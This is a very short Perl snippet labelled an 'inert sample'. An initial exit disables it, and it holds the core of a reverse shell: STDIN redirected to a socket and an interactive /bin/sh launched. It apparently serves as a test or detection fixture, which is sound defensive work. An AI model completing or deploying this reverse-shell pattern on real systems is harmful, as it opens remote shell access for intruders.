exit; # inert sample
use Socket;
open(STDIN,">&S");
exec("/bin/sh -i");
